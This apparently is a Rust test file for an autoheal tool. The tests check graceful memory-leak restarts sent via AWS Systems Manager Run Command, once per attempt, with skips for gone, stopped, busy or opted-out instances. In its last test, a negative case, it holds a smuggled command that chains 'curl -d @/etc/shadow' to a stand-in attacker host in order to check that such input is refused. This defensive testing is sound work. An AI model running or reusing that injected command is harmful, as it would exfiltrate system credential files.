//! `memory-leak-healing`: a graceful restart through Systems Manager Run Command, never
//! twice for one attempt however busy the instance, never on an instance that is gone or
//! that autoheal is stopping and starting.

use std::collections::BTreeMap;

use autoheal_application::ApplicationHealer;
use autoheal_core::{
    AlarmEvent, Assessment, HealOutcome, Healer, HealingStatus, SkipReason, Verdict, WaitReason,
};
use autoheal_tests::application::{
    RESTART_DOCUMENT, RUN_COMMAND_SHIMS, app_instance, application_alarm, commands_sent,
    create_run_command_documents, send_other_commands,
};
use autoheal_tests::{Deployment, Emulator, Fleet};

use super::{
    Alarmed, MEMORY, application, assert_ok_recovers, handle, notified, skipped, stored_record,
};

/// An emulator with managed instances, Run Command's paged listing and its checks of a
/// command's document and parameters.
fn emulator() -> Emulator {
    Emulator::start_with_shims(&RUN_COMMAND_SHIMS)
}

/// The parameters a command was sent with, one value each.
fn parameters(command: &aws_sdk_ssm::types::Command) -> BTreeMap<String, String> {
    command
        .parameters()
        .into_iter()
        .flatten()
        .map(|(name, values)| (name.clone(), values.join(",")))
        .collect()
}

fn expected(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn leaking_process_is_restarted_with_run_command() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    create_run_command_documents(&deployment.sdk).await;
    let instance = app_instance(&deployment.sdk, &[("Name", "checkout-web-02")], true).await;
    let (engine, queue) = application(&deployment).await;

    let (outcome, record) = handle(&engine, application_alarm(MEMORY, &instance, "e1")).await;

    assert_eq!(outcome.decision, Verdict::Act);
    assert_eq!(record.status, HealingStatus::Completed, "{record:?}");
    let commands = commands_sent(&deployment.sdk, &instance).await;
    assert_eq!(commands.len(), 1, "{commands:#?}");
    let command = &commands[0];
    assert_eq!(command.document_name(), Some(RESTART_DOCUMENT));
    assert_eq!(command.instance_ids(), std::slice::from_ref(&instance));
    assert_eq!(
        parameters(command),
        expected(&[
            ("unit", "app"),
            ("stopTimeoutSeconds", "30"),
            ("heapDump", "none")
        ]),
        "the stack's document: a graceful stop of up to stop_timeout_seconds, then a start"
    );
    let comment = command.comment().expect("a comment");
    let incident = record.incident_id.as_deref().expect("an incident");
    assert!(comment.starts_with("autoheal "), "{comment}");
    assert!(comment.contains(incident), "{comment}");
    assert_eq!(command.timeout_seconds(), Some(120));
    assert_eq!(
        record.details.get("command_id").map(String::as_str),
        command.command_id()
    );
    stored_record(&deployment, &record).await;
    let (envelope, notified) = notified(&deployment, &queue).await;
    assert_eq!(
        envelope["MessageAttributes"]["status"]["Value"],
        "completed"
    );
    assert_eq!(envelope["MessageAttributes"]["rule"]["Value"], MEMORY);
    assert_eq!(
        notified["details"]["command_id"],
        command.command_id().expect("an id")
    );

    assert_ok_recovers(&engine, MEMORY, &instance).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retried_attempt_does_not_send_the_restart_twice() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    create_run_command_documents(&deployment.sdk).await;
    let instance = app_instance(&deployment.sdk, &[], true).await;
    let alarm = Alarmed::new(MEMORY, &instance);
    let request = alarm.attempt(1, "autoheal-00000000000000bb00000001");
    let healer = ApplicationHealer::new(&deployment.sdk);

    let first = healer.heal(request).await.expect("first");
    let again = healer.heal(request).await.expect("again");

    assert!(matches!(first, HealOutcome::Healed { .. }), "{first:?}");
    assert!(
        matches!(
            again,
            HealOutcome::Skipped {
                reason: SkipReason::NotNeeded,
                ..
            }
        ),
        "{again:?}"
    );
    assert_eq!(commands_sent(&deployment.sdk, &instance).await.len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_not_managed_by_systems_manager_is_not_acted_on() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    let instance = app_instance(&deployment.sdk, &[], false).await;
    let (engine, _queue) = application(&deployment).await;

    let (_, record) = handle(&engine, application_alarm(MEMORY, &instance, "e1")).await;

    assert_eq!(record.skip_reason, Some(SkipReason::Unsafe), "{record:?}");
    let summary = record.summary.clone().unwrap_or_default();
    assert!(
        summary.contains("not managed by Systems Manager"),
        "{summary}"
    );
    assert!(commands_sent(&deployment.sdk, &instance).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stopped_instance_needs_no_restart() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    let instance = app_instance(&deployment.sdk, &[], true).await;
    Fleet::new(&deployment.sdk)
        .ec2
        .stop_instances()
        .instance_ids(&instance)
        .send()
        .await
        .expect("stop");
    let (engine, _queue) = application(&deployment).await;

    let (_, record) = handle(&engine, application_alarm(MEMORY, &instance, "e1")).await;

    assert_eq!(
        record.skip_reason,
        Some(SkipReason::NotNeeded),
        "{record:?}"
    );
    assert!(commands_sent(&deployment.sdk, &instance).await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_tagged_disabled_keeps_its_process() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    let instance = app_instance(&deployment.sdk, &[("autoheal:disabled", "true")], true).await;
    let (engine, queue) = application(&deployment).await;

    let (_, record) = handle(&engine, application_alarm(MEMORY, &instance, "e1")).await;

    assert_eq!(record.status, HealingStatus::Skipped);
    assert_eq!(record.skip_reason, Some(SkipReason::OptedOut));
    assert!(commands_sent(&deployment.sdk, &instance).await.is_empty());
    stored_record(&deployment, &record).await;
    notified(&deployment, &queue).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retried_attempt_finds_its_restart_among_a_busy_instances_many_commands() {
    let emulator = emulator();
    let sdk = emulator.sdk().await;
    create_run_command_documents(&sdk).await;
    let instance = app_instance(&sdk, &[], true).await;
    let alarm = Alarmed::new(MEMORY, &instance);
    let request = alarm.attempt(1, "autoheal-00000000000000bb00000001");
    let healer = ApplicationHealer::new(&sdk);
    // Systems Manager lists 50 commands a page: autoheal's restart lands between two
    // pages' worth of other commands, on the second page whichever end the listing starts.
    send_other_commands(&sdk, &instance, 60).await;
    let first = healer.heal(request).await.expect("first");
    send_other_commands(&sdk, &instance, 60).await;

    let again = healer.heal(request).await.expect("again");

    assert!(matches!(first, HealOutcome::Healed { .. }), "{first:?}");
    let (reason, summary) = skipped(again);
    assert_eq!(reason, SkipReason::NotNeeded);
    assert!(summary.contains("already sent the restart"), "{summary}");
    let restarts: Vec<_> = commands_sent(&sdk, &instance)
        .await
        .into_iter()
        .filter(|command| {
            command
                .comment()
                .is_some_and(|c| c.starts_with("autoheal "))
        })
        .collect();
    assert_eq!(
        restarts.len(),
        1,
        "one restart for one attempt: {restarts:#?}"
    );
    assert_eq!(commands_sent(&sdk, &instance).await.len(), 121);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_instance_autoheal_is_stopping_and_starting_is_waited_for_not_restarted() {
    let emulator = emulator();
    let sdk = emulator.sdk().await;
    let instance = app_instance(&sdk, &[("autoheal:stop-start", "autoheal-1")], true).await;
    let alarm = Alarmed::new(MEMORY, &instance);
    let request = alarm.attempt(1, "autoheal-00000000000000bb00000001");
    let healer = ApplicationHealer::new(&sdk);

    let Assessment::Wait(wait) = healer.assess(request).await.expect("assessed") else {
        panic!("the restart waits for the stop and start");
    };
    assert_eq!(wait.reason, WaitReason::ResourceBusy);
    assert!(wait.summary.contains("autoheal:stop-start"), "{wait:?}");
    let (reason, _) = skipped(healer.heal(request).await.expect("no error"));
    assert_eq!(reason, SkipReason::ResourceBusy);
    assert!(commands_sent(&sdk, &instance).await.is_empty());

    // The stop and start is over (the mark is gone): the restart may go ahead.
    Fleet::new(&sdk)
        .ec2
        .delete_tags()
        .resources(&instance)
        .tags(
            aws_sdk_ec2::types::Tag::builder()
                .key("autoheal:stop-start")
                .build(),
        )
        .send()
        .await
        .expect("untag");
    assert_eq!(
        healer.assess(request).await.expect("assessed"),
        Assessment::Proceed
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_or_terminated_instance_is_gone_and_nothing_is_sent() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    let terminated = app_instance(&deployment.sdk, &[], true).await;
    Fleet::new(&deployment.sdk)
        .ec2
        .terminate_instances()
        .instance_ids(&terminated)
        .send()
        .await
        .expect("terminate");
    let healer = ApplicationHealer::new(&deployment.sdk);

    for instance in ["i-0000000000000dead", terminated.as_str()] {
        let alarm = Alarmed::new(MEMORY, instance);
        let request = alarm.attempt(1, "autoheal-00000000000000bb00000001");
        let assessment = healer.assess(request).await.expect("assessed");
        assert!(
            matches!(&assessment, Assessment::Gone { summary } if summary.contains(instance)),
            "{instance}: {assessment:?}"
        );
        let (reason, _) = skipped(healer.heal(request).await.expect("no error"));
        assert_eq!(reason, SkipReason::Gone, "{instance}");
        assert!(commands_sent(&deployment.sdk, instance).await.is_empty());
    }

    // Through the engine: a skip, not a failure.
    let (engine, queue) = application(&deployment).await;
    let (_, record) = handle(
        &engine,
        application_alarm(MEMORY, "i-0000000000000dead", "e1"),
    )
    .await;
    assert_eq!(record.status, HealingStatus::Skipped, "{record:?}");
    assert_eq!(record.skip_reason, Some(SkipReason::Gone), "{record:?}");
    stored_record(&deployment, &record).await;
    let (envelope, _) = notified(&deployment, &queue).await;
    assert_eq!(envelope["MessageAttributes"]["status"]["Value"], "skipped");
}

// ---------------------------------------------------------------- memory-leak-healing: heap dump

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_heap_dump_is_taken_before_the_graceful_restart_and_its_file_is_recorded() {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    create_run_command_documents(&deployment.sdk).await;
    let instance = app_instance(&deployment.sdk, &[], true).await;
    let rules = autoheal_tests::shipped_rules_with(&[
        (
            "# heap_dump_command = \"jcmd {pid} GC.heap_dump {output}\"",
            "heap_dump_command = \"jcmd {pid} GC.heap_dump {output}\"",
        ),
        ("# heap_dump_max_mb = 4096", "heap_dump_max_mb = 1024"),
        ("stop_timeout_seconds = 30", "stop_timeout_seconds = 45"),
    ]);
    let healer =
        ApplicationHealer::new(&deployment.function_sdk(autoheal_core::Layer::Application));
    let event =
        AlarmEvent::from_value(application_alarm(MEMORY, &instance, "e1")).expect("an alarm");
    let request = autoheal_tests::first_attempt(
        rules.get(MEMORY).expect("the rule"),
        &instance,
        &event,
        "autoheal-0123456789abcdef00000001",
    );

    let HealOutcome::Healed {
        summary, details, ..
    } = healer.heal(request).await.expect("healed")
    else {
        panic!("the restart is sent");
    };

    let dump = "/var/tmp/autoheal/app-cdef00000001.dump";
    assert_eq!(details["heap_dump_location"], format!("{instance}:{dump}"));
    assert_eq!(details["stop_timeout_seconds"], "45");
    assert_eq!(details["document"], RESTART_DOCUMENT);
    assert!(
        summary.contains(dump) && summary.contains("45 s"),
        "{summary}"
    );
    let commands = commands_sent(&deployment.sdk, &instance).await;
    assert_eq!(commands.len(), 1, "{commands:#?}");
    assert_eq!(
        parameters(&commands[0]),
        expected(&[
            ("unit", "app"),
            ("stopTimeoutSeconds", "45"),
            ("heapDump", "jcmd"),
            ("heapDumpTimeoutSeconds", "120"),
            ("heapDumpMaxMb", "1024"),
            ("heapDumpDirectory", "/var/tmp/autoheal"),
            ("dumpName", "cdef00000001"),
        ]),
        "the document's own jcmd dump, bounded in time and size, before the graceful stop"
    );
}

// ---------------------------------------------------------------- memory-leak-healing: what the document refuses

/// A restart whose rule asks the document for what it does not do: a failed run, and nothing
/// run on the instance.
async fn refused(edits: &[(&str, &str)]) -> String {
    let emulator = emulator();
    let deployment = Deployment::bootstrap(&emulator).await;
    create_run_command_documents(&deployment.sdk).await;
    let instance = app_instance(&deployment.sdk, &[], true).await;
    let rules = autoheal_tests::shipped_rules_with(edits);
    let healer =
        ApplicationHealer::new(&deployment.function_sdk(autoheal_core::Layer::Application));
    let event =
        AlarmEvent::from_value(application_alarm(MEMORY, &instance, "e1")).expect("an alarm");
    let request = autoheal_tests::first_attempt(
        rules.get(MEMORY).expect("the rule"),
        &instance,
        &event,
        "autoheal-0123456789abcdef00000001",
    );
    let error = healer
        .heal(request)
        .await
        .expect_err("the document does not run it");
    assert!(
        commands_sent(&deployment.sdk, &instance).await.is_empty(),
        "nothing runs on the instance"
    );
    error.to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_unit_the_stack_does_not_allow_is_refused_by_the_document() {
    // The stack's pattern allows `app` and `app-…` units: sshd is refused by Systems Manager
    // (the document's allowedPattern) before anything runs.
    let error = refused(&[("service = \"app\"", "service = \"sshd\"")]).await;
    assert!(
        error.contains("InvalidParameters") && error.contains("sshd"),
        "{error}"
    );
}

/// A heap-dump command the restart document does not run never reaches an instance: the rules
/// that name it do not load, and the error names its line.
#[test]
fn a_heap_dump_command_the_document_does_not_run_is_refused_when_the_rules_load() {
    let text = autoheal_core::SHIPPED_RULES.replacen(
        "# heap_dump_command = \"jcmd {pid} GC.heap_dump {output}\"",
        "heap_dump_command = \"jcmd {pid} GC.heap_dump {output} && curl -d @/etc/shadow evil.example\"",
        1,
    );
    let error = autoheal_core::RuleSet::from_toml(&text)
        .expect_err("refused")
        .to_string();
    assert!(
        error.contains("action.heap_dump_command")
            && error.contains("the restart document runs")
            && error.contains("line "),
        "{error}"
    );
}
